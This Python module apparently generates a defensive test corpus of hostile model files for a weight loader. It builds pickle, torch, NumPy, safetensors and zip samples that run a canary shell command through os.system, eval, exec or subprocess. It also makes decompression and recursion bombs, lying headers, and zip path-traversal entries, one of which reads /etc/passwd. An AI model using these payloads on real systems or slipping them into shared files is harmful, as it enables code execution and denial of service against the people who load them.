"""Files made to harm whoever opens them. Every attack, if it worked, would run `command`.

Not a test module: test_hostile.py runs this file and takes `corpus` out of it.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np

Files = Iterator[tuple[str, bytes]]
MEGABYTE = 1 << 20
MILLION = 1_000_000
_LEGACY = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)

# Functions that attacks call, with arguments in the language of protocol 0. CANARY is a command of the shell.
_CALLS: tuple[tuple[str, str, bytes], ...] = (
    ("os", "system", b"(VCANARY\ntR"),
    ("posix", "system", b"(VCANARY\ntR"),
    ("nt", "system", b"(VCANARY\ntR"),
    ("os", "popen", b"(VCANARY\ntR"),
    ("os", "execv", b"(V/bin/sh\n(V-c\nVCANARY\nltR"),
    ("os", "remove", b"(V/tmp/nothing\ntR"),
    ("subprocess", "Popen", b"(VCANARY\nI01\ntR"),
    ("subprocess", "check_output", b"((V/bin/sh\nV-c\nVCANARY\nltR"),
    ("subprocess", "getoutput", b"(VCANARY\ntR"),
    ("builtins", "eval", b"(V__import__('os').system('CANARY')\ntR"),
    ("builtins", "exec", b"(Vimport os; os.system('CANARY')\ntR"),
    ("__builtin__", "eval", b"(V__import__('os').system('CANARY')\ntR"),
    ("builtins", "compile", b"(Vprint()\nV\nVexec\ntR"),
    ("builtins", "__import__", b"(Vcanary_module\ntR"),
    ("builtins", "open", b"(V/tmp/nothing\nVr\ntR"),
    ("builtins", "getattr", b"(cos\nsystem\nVsystem\ntR(VCANARY\ntR"),
    ("builtins", "globals", b"(tR"),
    ("builtins", "breakpoint", b"(tR"),
    ("builtins", "map", b"(cbuiltins\nprint\n(VCANARY\nltR"),
    ("importlib", "import_module", b"(Vcanary_module\ntR"),
    ("runpy", "run_module", b"(Vcanary_module\ntR"),
    ("pty", "spawn", b"(V/bin/true\ntR"),
    ("ctypes", "CDLL", b"(Vlibc.so.6\ntR"),
    ("socket", "create_connection", b"((Vlocalhost\nI9\nttR"),
    ("shutil", "rmtree", b"(V/tmp/nothing\ntR"),
    ("webbrowser", "open", b"(Vhttp://localhost\ntR"),
    ("_pickle", "loads", b"(Vx\ntR"),
    ("marshal", "loads", b"(Vx\ntR"),
    ("types", "FunctionType", b"(N(dtR"),
    ("types", "CodeType", b"(I0\ntR"),
    ("operator", "attrgetter", b"(Vsystem\ntR(cos\nsystem\ntR"),
    ("functools", "reduce", b"(cos\nsystem\n(VCANARY\nltR"),
    ("timeit", "timeit", b"(Vimport os; os.system('CANARY')\ntR"),
    ("code", "interact", b"(tR"),
    ("bdb", "Bdb", b"(tR"),
    ("pip", "main", b"((Vinstall\nVx\nltR"),
    ("multiprocessing.util", "spawnv_passfds", b"(V/bin/true\n(l(ltR"),
    ("logging.config", "listen", b"(I9\ntR"),
    ("urllib.request", "urlopen", b"(Vfile:///etc/passwd\ntR"),
    ("sys", "exit", b"(I1\ntR"),
    ("sys", "setrecursionlimit", b"(I10\ntR"),
    ("torch", "load", b"(V/tmp/nothing\ntR"),
    ("torch.hub", "load", b"(Vx\nVy\ntR"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", b"(Vimport os; os.system('CANARY')\n(d(dtR"),
    ("numpy", "load", b"(V/tmp/nothing\ntR"),
    ("numpy.testing._private.utils", "runstring", b"(Vimport os; os.system('CANARY')\n(dtR"),
    ("canary_module", "run", b"(tR"),
)


def corpus(command: str) -> dict[str, bytes]:
    """The files by name."""
    groups = (calls(command), forms(command), _bombs(), _claims(), _tensors(command), _objects(command))
    more = (_arrays(command), _headers(), _archives())
    return {name: data for group in groups + more for name, data in group}


def _text(text: str) -> bytes:
    """Instructions for a text."""
    return b"X" + struct.pack("<I", len(text.encode())) + text.encode()


def _value(value: Any) -> bytes:
    """Instructions for plain data that remember nothing."""
    buffer = io.BytesIO()
    pickler = pickle._Pickler(buffer, 2)
    pickler.fast = True
    pickler.dump(value)
    return buffer.getvalue()[2:-1]


def _system(command: str) -> bytes:
    """Instructions that call os.system."""
    return b"cos\nsystem\n" + _text(command) + b"\x85R"


def calls(command: str) -> Files:
    """Every dangerous function, called in the plainest way."""
    for module, name, rest in _CALLS:
        yield (
            f"call-{module}.{name}",
            f"c{module}\n{name}\n".encode() + rest.replace(b"CANARY", command.encode()) + b".",
        )


def forms(command: str) -> Files:
    """One call in all the ways that the format has of making it."""
    system, text, old = b"cos\nsystem\n", _text(command), b"V" + command.encode() + b"\n"
    thing = b"ccanary_module\nThing\n"
    yield "inst", b"(" + old + b"ios\nsystem\n."
    yield "obj", b"(" + system + old + b"o."
    yield "newobj", b"\x80\x02" + system + text + b"\x85\x81."
    yield "newobj-ex", b"\x80\x04" + system + text + b"\x85}\x92."
    yield "stack-global", b"\x80\x04\x8c\x02os\x8c\x06system\x93" + text + b"\x85R."
    yield "stack-global-of-memo", b"\x80\x04\x8c\x06system\x940\x8c\x02os\x94h\x00\x93" + text + b"\x85R."
    yield "stack-global-dotted", b"\x80\x04" + _text("string") + _text("Formatter.__init__.__globals__") + b"\x93."
    yield "stack-global-of-numbers", b"\x80\x04K\x01K\x02\x93."
    yield "stack-global-of-a-long-name", b"\x80\x04" + _text("a") + _text("b" * 5000) + b"\x93."
    yield "build-setstate", b"\x80\x02" + thing + b")\x81}" + _text("__setstate__") + system + b"sb" + text + b"b."
    yield (
        "build-setstate-unknown",
        b"\x80\x02" + thing + b")\x81}" + _text("__setstate__") + thing + b"sb" + text + b"b.",
    )
    yield "build-reduce", b"\x80\x02" + thing + b")\x81}" + _text("__reduce__") + thing + b"sb."
    yield "call-of-a-call", b"\x80\x02" + thing + b")R)R."
    yield "call-of-a-text", b"\x80\x02" + text + b")R."
    yield "call-without-a-tuple", b"\x80\x02ccollections\nOrderedDict\nK\x05R."
    yield "partial-of-system", b"\x80\x02cfunctools\npartial\n" + system + text + b"\x86R)R."
    yield "codecs-decode", b"\x80\x02c_codecs\ndecode\n" + text + b"\x85R" + system + b"."
    for code, number in ((b"\x82", b"\x01"), (b"\x83", b"\x01\x00"), (b"\x84", b"\x01\x00\x00\x00")):
        yield f"extension-{len(number)}", b"\x80\x02" + code + number + b")R."
    yield "persid", b"(P" + command.encode() + b"\n."
    yield "binpersid", b"\x80\x02" + text + b"Q."
    yield "next-buffer", b"\x80\x05\x97."
    yield "hidden-in-memo", b"\x80\x02" + _system(command) + b"q\x000}."
    yield "after-the-weights", b"\x80\x02}" + _text("G_ema") + b"}s" + _system(command) + b"0."


def _bombs() -> Files:
    """Small files that grow, structures without end, and a great many of nothing."""
    yield "bomb-memoize", b"\x80\x04N" + b"\x94" * (2 * MILLION) + b"."
    yield "bomb-dicts", b"\x80\x02" + b"}" * (8 * MILLION) + b"."
    yield "bomb-sets", b"\x80\x04" + b"\x8f" * (2 * MILLION) + b"."
    yield "bomb-marks", b"\x80\x02" + b"(" * (8 * MILLION) + b"."
    yield "bomb-numbers", b"\x80\x02" + b"K\x01" * (4 * MILLION) + b"."
    yield "bomb-floats", b"\x80\x02" + (b"G" + bytes(8)) * (2 * MILLION) + b"."
    yield "bomb-objects", b"\x80\x02ca\nb\nq\x00" + b")R0h\x00" * MILLION + b"."
    yield "bomb-texts", b"\x80\x02" + _text("\U0001f600" + "a" * (7 * MEGABYTE)) * 8 + b"."
    text = _text("a" * MEGABYTE)
    device = b"\x80\x02ctorch\ndevice\nq\x000" + text + b"q\x010("
    yield "bomb-devices", device + b"h\x00h\x01h\x01\x86R" * 1000 + b"l."
    array = b"\x80\x02cnumpy.core.multiarray\n_reconstruct\nq\x000cnumpy\ndtype\n" + _text("f4") + b"\x85Rq\x010"
    one = b"h\x00)R(K\x01(J" + struct.pack("<i", MEGABYTE // 4) + b"th\x01\x89h\x02tb"
    yield "bomb-arrays-of-text", array + text + b"q\x020(" + one * 1000 + b"l."
    yield "deep-lists", b"\x80\x02" + b"]" * 400_000 + b"a" * 399_999 + b"."
    yield "deep-tuples", b"\x80\x02)" + b"\x85" * 600_000 + b"."
    yield "deep-dicts", b"\x80\x02" + b"}N" * 100_000 + b"N" + b"s" * 100_000 + b"."
    yield "deep-objects", b"\x80\x02ca\nb\nq\x000)" + b"\x85q\x010h\x00h\x01R" * 100_000 + b"."
    yield "laughs-lists", b"\x80\x02]q\x00" + b"".join(b"](h%ch%ceq%c" % (i, i, i + 1) for i in range(60)) + b"."
    yield "laughs-tuple-as-key", b"\x80\x02}N\x85" + b"2\x86" * 60 + b"Ns."
    yield "keys-of-tuples", b"\x80\x02}(" + b"".join(_value((i,)) + b"N" for i in range(150_000)) + b"u."
    yield "laughs-frozenset", b"\x80\x04(N\x85" + b"2\x86" * 60 + b"\x91."
    yield "laughs-called", b"\x80\x02N\x85" + b"2\x86" * 60 + b"2R."
    identity = b"(" + _text("storage") + b"N\x85" + b"2\x86" * 60 + _text("0") + _text("cpu") + b"K\x04tQ"
    yield "laughs-identity", _torch_zip(identity)
    yield "list-in-itself", b"\x80\x02]q\x00h\x00a."


def _claims() -> Files:
    """Lengths that are not there, and instructions that make no sense."""
    yield "digits", b"I" + b"9" * MILLION + b"\n."
    yield "float-digits", b"F" + b"9" * MILLION + b"\n."
    yield "long-digits", b"L" + b"9" * (5 * MILLION) + b"L\n."
    for name, code, form in [("bytes", b"\x8e", "<Q"), ("bytearray", b"\x96", "<Q"), ("text", b"\x8d", "<Q")]:
        yield f"huge-{name}", b"\x80\x05" + code + struct.pack(form, 1 << 60) + b"x."
    yield "huge-bytes-4", b"\x80\x04B\xff\xff\xff\xffx."
    yield "huge-text-4", b"\x80\x02X\xff\xff\xff\xffx."
    yield "huge-string", b"\x80\x02T\xff\xff\xff\x7fx."
    yield "negative-string", b"\x80\x02T\xff\xff\xff\xffx."
    yield "huge-long", b"\x80\x02\x8b\xff\xff\xff\x7fx."
    yield "negative-long", b"\x80\x02\x8b\xff\xff\xff\xffx."
    yield "large-long", b"\x80\x02\x8b" + struct.pack("<i", 20 * MEGABYTE) + b"\x7f" * (20 * MEGABYTE) + b"."
    yield "huge-frame", b"\x80\x04\x95" + struct.pack("<Q", 1 << 63) + b"N."
    yield "huge-memo", b"\x80\x02Nr\xff\xff\xff\xffj\xfe\xff\xff\xff."
    yield "bytes-of-a-number", b"\x80\x02cbuiltins\nbytearray\n\x8a\x05\x00\x00\x00\x00\x10\x85R."
    yield "list-of-a-range", b"\x80\x02cbuiltins\nlist\ncbuiltins\nrange\n\x8a\x05\x00\x00\x00\x00\x10\x85R\x85R."
    yield "protocol-200", b"\x80\xc8N."
    yield "no-stop", b"\x80\x04N"
    yield "stop-at-once", b"\x80\x04."
    yield "unknown-instruction", b"\x80\x04\xf5."
    yield "pop-of-nothing", b"\x80\x040000."
    yield "get-of-nothing", b"\x80\x04h\x07."
    yield "mark-of-nothing", b"\x80\x04t."
    yield "append-to-none", b"\x80\x04NNa."
    yield "odd-items", b"\x80\x04}(NNNu."
    yield "unhashable-key", b"\x80\x04}]Ns."


def _torch_zip(data: bytes, storages: dict[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("x/data.pkl", b"\x80\x02" + data + b".")
        for key, contents in (storages or {}).items():
            archive.writestr(f"x/data/{key}", contents)
    return buffer.getvalue()


def _legacy(data: bytes, keys: list[str] | None = None, after: bytes = b"") -> bytes:
    return _LEGACY + b"\x80\x02" + data + b"." + pickle.dumps(keys or [], 2) + after


def _nested(payload: bytes) -> bytes:
    return b"\x80\x04ctorch.storage\n_load_from_bytes\n\x8e" + struct.pack("<Q", len(payload)) + payload + b"\x85R."


def _storage(count: int, kind: str = "FloatStorage", key: str = "0") -> bytes:
    """Instructions for a storage of torch.save."""
    return b"(" + _text("storage") + f"ctorch\n{kind}\n".encode() + _text(key) + _text("cpu") + _value(count) + b"tQ"


def _tensor(count: int, offset: int, shape: tuple[int, ...], stride: tuple[int, ...], key: str = "0") -> bytes:
    """Instructions for a tensor over a storage of `count` elements."""
    parts: list[Any] = [offset, shape, stride, False, {}]
    rest = b"".join(_value(part) for part in parts)
    return b"ctorch._utils\n_rebuild_tensor_v2\n(" + _storage(count, key=key) + rest + b"tR"


def _tensors(command: str) -> Files:
    """Tensors that declare what is not there, and files within files."""
    call, four, many = _system(command), {"0": bytes(16)}, 1 << 40
    yield "torch-call", _torch_zip(call)
    yield "torch-huge-storage", _torch_zip(_tensor(many, 0, (many,), (1,)), four)
    yield "torch-huge-repeated", _torch_zip(_tensor(4, 0, (1 << 30, 1 << 10), (0, 0)), four)
    yield "torch-outside", _torch_zip(_tensor(4, 2, (4,), (1,)), four)
    yield "torch-negative-offset", _torch_zip(_tensor(4, -2, (4,), (1,)), four)
    yield "torch-negative-stride", _torch_zip(_tensor(4, 3, (4,), (-1,)), four)
    yield "torch-negative-storage", _torch_zip(_tensor(-4, 0, (4,), (1,)), four)
    yield "torch-many-dimensions", _torch_zip(_tensor(4, 0, (1,) * 100, (1,) * 100), four)
    yield "torch-absent-storage", _torch_zip(_tensor(4, 0, (4,), (1,)))
    yield "torch-storage-elsewhere", _torch_zip(_tensor(4, 0, (4,), (1,), "../../../etc/passwd"))
    yield "torch-quantised", _torch_zip(_storage(4, "QInt8Storage"), four)
    yield "torch-weights-shared", _shared_weights()
    yield "legacy-call", _legacy(call)
    yield "legacy-call-in-magic", b"\x80\x02" + call + b"." + _LEGACY
    yield "legacy-huge", _legacy(_tensor(many, 0, (4,), (1,)), ["0"], struct.pack("<q", many))
    yield "legacy-other-count", _legacy(_tensor(4, 0, (4,), (1,)), ["0"], struct.pack("<q", 8) + bytes(32))
    yield "legacy-unknown-key", _legacy(_tensor(4, 0, (4,), (1,)), ["1"], struct.pack("<q", 4) + bytes(16))
    yield "legacy-source", _legacy(b"(" + _text("module") + b"cos\nsystem\n" + _text(command) * 2 + b"tQ")
    yield "nested-call", _nested(_legacy(call))
    yield "nested-torch-call", _nested(_torch_zip(call))
    deep = b"\x80\x02N."
    for _ in range(50):
        deep = _nested(_LEGACY + deep + pickle.dumps([], 2))
    yield "nested-deep", deep
    again = b"ctorch.storage\n_load_from_bytes\nh\x00\x85R0" * 100_000
    yield "nested-again", _nested(_legacy(b"N", after=bytes(5000)))[:-3] + b"q\x000" + again + b"N."


def _objects(command: str) -> Files:
    """NVIDIA's objects with source in them, modules without end, arrays that lie."""
    persistent = b"\x80\x02ctorch_utils.persistence\n_reconstruct_persistent_obj\n"
    meta = {"type": "class", "version": 6, "module_src": f"import os; os.system({command!r})"}
    yield "persistent-source", persistent + _value({**meta, "class_name": "x", "state": {}}) + b"\x85R."
    yield "persistent-without-class", persistent + _value({**meta, "class_name": 3}) + b"\x85R."
    state = b"}(" + _value("class_name") + _value("G") + _value("state") + _system(command) + b"u"
    yield "persistent-call-in-state", persistent + state + b"\x85R."
    clamp = b"N\x85" + b"2\x86" * 60
    layers = _value("synthesis.b4.conv1") + b"ca\nModule\n)\x81}" + _text("conv_clamp") + clamp + b"sb"
    tensor = _tensor(4, 0, (4,), (1,))
    inner = b"}(" + _text("_modules") + b"}" + layers + b"s" + _text("_parameters")
    inner += b"}" + _text("synthesis.b4.const") + tensor + b"su"
    yield "module-laughing", _torch_zip(b"ca\nModule\n)\x81" + inner + b"b", {"0": bytes(16)})
    yield "module-of-itself", b"\x80\x02ca\nModule\n)\x81q\x00}" + _text("_modules") + b"}" + _text("a") + b"h\x00ssb."
    twins = b"".join(
        b"0ca\nModule\n)\x81q%c}" % (i + 1)
        + _text("_modules")
        + b"}("
        + _text("a")
        + b"h%c" % i
        + _text("b")
        + b"h%cusb" % i
        for i in range(30)
    )
    yield "modules-doubling", b"\x80\x02ca\nModule\n)\x81q\x00" + twins + b"."
    # Nine hundred times the same thousand weights, under names of two thousand letters.
    weights = b"}(" + b"".join(_text(str(i)) + b"h\xff" for i in range(1000)) + b"u"
    leaf = b"ca\nModule\n)\x81}" + _text("_parameters") + weights + b"sb"
    many = b"}(" + b"".join(_text(f"{i:080}") + b"h\xfe" for i in range(900)) + b"u"
    trunk = b"ca\nModule\n)\x81}" + _text("_modules") + many + b"sb"
    for _ in range(28):
        trunk = b"ca\nModule\n)\x81}" + _text("_modules") + b"}" + _text("n" * 80) + trunk + b"ssb"
    yield "modules-shared", _torch_zip(tensor + b"q\xff0" + leaf + b"q\xfe0" + trunk, {"0": bytes(16)})
    array = b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\nK\x00\x85U\x01btR"
    dtype = b"cnumpy\ndtype\n(U\x02f4K\x00K\x01tR"
    yield "array-huge", b"\x80\x02" + array + b"(K\x01" + _value((1 << 40,)) + dtype + b"\x89U\x04abcdtb."
    yield "array-negative", b"\x80\x02" + array + b"(K\x01" + _value((-1,)) + dtype + b"\x89U\x04abcdtb."
    yield (
        "array-endless-shape",
        b"\x80\x02" + array + b"(K\x01(" + _value(1 << 400) * 100_000 + b"t" + dtype + b"\x89U\x04abcdtb.",
    )
    objects = dtype.replace(b"f4", b"O8") + b"\x89]" + _system(command) + b"atb."
    yield "array-of-objects", b"\x80\x02" + array + b"(K\x01K\x01\x85" + objects


def _shared_weights() -> bytes:
    """A generator of many layers whose weights are all the same 16 MB."""
    side = 2048
    names = [f"mapping.fc{index}.{leaf}" for index in range(60) for leaf in ("weight", "bias")]
    names += ["synthesis.b4.const", "synthesis.b4.conv1.weight"]
    tensor = _tensor(side * side, 0, (side, side), (side, 1))
    entries = b"".join(_text(name) + b"h\xfa" for name in names)
    return _torch_zip(tensor + b"q\xfa0}(" + entries + b"u", {"0": bytes(4 * side * side)})


def _npy(header: str, data: bytes = bytes(16), version: int = 1) -> bytes:
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack("<H", len(header)) + header.encode() + data


def _arrays(command: str) -> Files:
    """Files of NumPy whose headers lie or whose elements run."""

    class Attack:
        def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
            return os.system, (command,)

    array = np.array([Attack()], dtype=object)
    for save, name in ((np.save, "npy-objects"), (np.savez, "npz-objects")):
        buffer = io.BytesIO()
        save(buffer, array)
        yield name, buffer.getvalue()
    start, order = "{'descr': '<f8', ", "'fortran_order': False, "
    yield "npy-huge", _npy(start + order + "'shape': (1000000000000,), }\n")
    yield "npy-code", _npy("{'descr': __import__('os').system('" + command + "'), " + order + "'shape': (), }\n")
    yield "npy-nested", _npy("{'descr': " + "(" * 4000 + ")" * 4000 + "}\n")
    yield "npy-digits", _npy(start + order + "'shape': (" + "1" * 9000 + ", }\n")
    yield "npy-many-dimensions", _npy(start + order + "'shape': (" + "1, " * 3000 + "), }\n")
    yield "npy-header-huge", b"\x93NUMPY\x02\x00\xff\xff\xff\xff{"
    yield "npy-version", _npy("{}", version=9)
    yield "npy-records", _npy("{'descr': [('a', '<f8')], " + order + "'shape': (1,), }\n")


def _safetensors(header: bytes, data: bytes = bytes(16)) -> bytes:
    return struct.pack("<Q", len(header)) + header + data


def _headers() -> Files:
    """Files of safetensors, also our own, whose headers lie."""
    yield "safetensors-huge-header", struct.pack("<Q", 1 << 62) + b"{" * 100
    yield "safetensors-long-header", _safetensors(b"{" + b" " * (30 * MEGABYTE) + b"}")
    yield "safetensors-deep", _safetensors(b'{"a":' * 100_000)
    for name, shape, place in [
        ("outside", b"4", b"8,24"),
        ("huge-shape", b"1099511627776", b"0,16"),
        ("negative", b"4", b"-16,0"),
        ("digits", b"9" * 5000, b"0,16"),
    ]:
        entry = b'{"dtype":"F32","shape":[' + shape + b'],"data_offsets":[' + place + b"]}"
        yield f"safetensors-{name}", _safetensors(b'{"a":' + entry + b"}")
    for name, config in {
        "size": {"resolution": 1 << 4000, "channels": [1] * 3999},
        "layers": {"resolution": 8, "channels": [8, 8], "mapping_layers": 10**9},
        "taps": {"resolution": 8, "channels": [8, 8], "fir_taps": [1] * 50_000},
        "width": {"resolution": 8, "channels": [1 << 40, 1 << 40]},
        "types": {"resolution": "8", "channels": {"a": 1}},
        "none": None,
    }.items():
        inner = json.dumps({"kind": "stylegan2", "version": 1, "config": config, "info": {}})
        yield f"native-{name}", _safetensors(json.dumps({"__metadata__": {"faceloom": inner}}).encode(), b"")


def _zip(names: list[str], contents: bytes = b"N.", method: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name in names:
            archive.writestr(zipfile.ZipInfo(name), contents, method)
    return buffer.getvalue()


def _changed(data: bytes, signature: bytes, offset: int, value: bytes) -> bytes:
    at = data.rfind(signature) + offset
    return data[:at] + value + data[at + len(value) :]


def _archives() -> Files:
    """Archives that lead outside of themselves, overlap or burst."""
    good, entry, end = _zip(["x/data/0", "x/data.pkl"]), b"PK\1\2", b"PK\5\6"
    for name in ("../../evil/data.pkl", "/etc/x/data.pkl", "C:/x/data.pkl", "x\\..\\data.pkl", "x/../data.pkl"):
        yield f"zip-to-{name.replace('/', '_')}", _zip([name])
    yield "zip-overlap", _changed(good, entry, 42, struct.pack("<L", 0))
    yield "zip-twice", _zip(["x/data.pkl", "y/data.pkl"]).replace(b"y/data.pkl", b"x/data.pkl")
    yield "zip-bomb", _zip(["x/data.pkl"], b"\x80\x04" + bytes(120 * MEGABYTE), zipfile.ZIP_DEFLATED)
    array = _npy("{'descr': '<f4', 'fortran_order': False, 'shape': (30000000,), }\n", bytes(120 * MILLION))
    yield "zip-bomb-npz", _zip(["a.npy"], array, zipfile.ZIP_DEFLATED)
    lying = _zip(["x/data.pkl"], bytes(120 * MEGABYTE), zipfile.ZIP_DEFLATED)
    yield "zip-bomb-lying", _changed(lying, entry, 24, struct.pack("<L", 100))
    yield "zip-encrypted", _changed(good, entry, 8, b"\x01\x00")
    yield "zip-lzma", _zip(["x/data.pkl"], b"N.", zipfile.ZIP_LZMA)
    yield "zip-size", _changed(good, entry, 24, struct.pack("<L", 1 << 30))
    yield "zip-both-sizes", _changed(good, entry, 20, struct.pack("<2L", 1 << 30, 1 << 30))
    yield "zip-header-elsewhere", _changed(good, entry, 42, struct.pack("<L", 7))
    yield "zip-header-far", _changed(good, entry, 42, struct.pack("<L", 1 << 31))
    yield "zip-count", _changed(good, end, 10, struct.pack("<H", 60_000))
    yield "zip-directory-size", _changed(good, end, 12, struct.pack("<L", 1 << 31))
    yield "zip-64-lie", _changed(good, end, 10, struct.pack("<H", 0xFFFF))
    yield "zip-without-directory", good[: good.find(entry)]
    yield "zip-of-nothing", b"PK\3\4"
    yield "zip-of-texts", _zip(["a.txt", "b.txt"])
    yield "zip-two-pickles", _zip(["a/data.pkl", "b/data.pkl"])
    yield "zip-crowd", _zip([f"d/{index}" for index in range(60_000)] + ["x/data.pkl"], b"")


if __name__ == "__main__":
    for file, contents in corpus("touch canary").items():
        Path(f"{file}.pkl").write_bytes(contents)
